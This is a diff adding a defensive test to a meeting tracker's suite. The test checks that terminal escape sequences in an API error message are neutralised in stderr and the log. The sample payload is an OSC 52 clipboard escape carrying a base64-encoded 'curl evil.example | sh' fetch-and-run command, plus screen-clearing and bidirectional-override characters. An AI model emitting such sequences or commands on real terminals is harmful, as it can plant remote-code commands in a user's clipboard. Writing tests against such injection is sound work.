@@ -110,6 +110,27 @@ def test_a_meeting_named_with_terminal_escapes_is_printed_as_text(tmp_path: Path
         assert bad == [], (command, bad)
 
 
+def test_an_api_s_error_message_with_terminal_escapes_reaches_no_terminal_through_the_log(
+        tmp_path: Path, replay: ReplayServer) -> None:
+    """A Legistar API answering `{"Message": ...}` with OSC 52 and CSI sequences: the error line is
+    the message as text on `--verbose`'s stderr and in `[tracker] log_file` (read with `tail -f`),
+    as it already was in the command's own lines; the log wrote it raw, so following the log set
+    the operator's clipboard and cleared the screen."""
+    said = "no such client \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u202e"
+    replay.add("/v1/nyc/events", json=json.dumps({"Message": said}))
+    config = tmp_path / "tracker.toml"
+    config.write_text(f'[tracker]\nlog_file = "tracker.log"\n[crawl]\ndelay_seconds = 0\n'
+                      f'[sources.legistar]\nbase_url = "{replay.url}/v1"\n'
+                      '[[meetings]]\nid = "nyc"\nname = "New York City Council"\ntimezone = "America/New_York"\n'
+                      'legistar = { client = "nyc" }\n')
+    result = tracker(config, "--verbose", "run")
+    assert result.returncode == 1
+    logged = (tmp_path / "tracker.log").read_text()
+    for where, text in (("stderr", result.stderr), ("log file", logged)):
+        assert "unexpected answer: no such client ?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==??[2J?" in text, where
+        assert re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text) == [], where
+
+
 def test_a_link_that_reads_as_another_address_is_no_link_anywhere(
         tmp_path: Path, replay: ReplayServer, mailbox: Mailbox) -> None:
     """A plain-text message showed "Meeting page: https://nyc.legistar.com@evil.example/…" (it leads
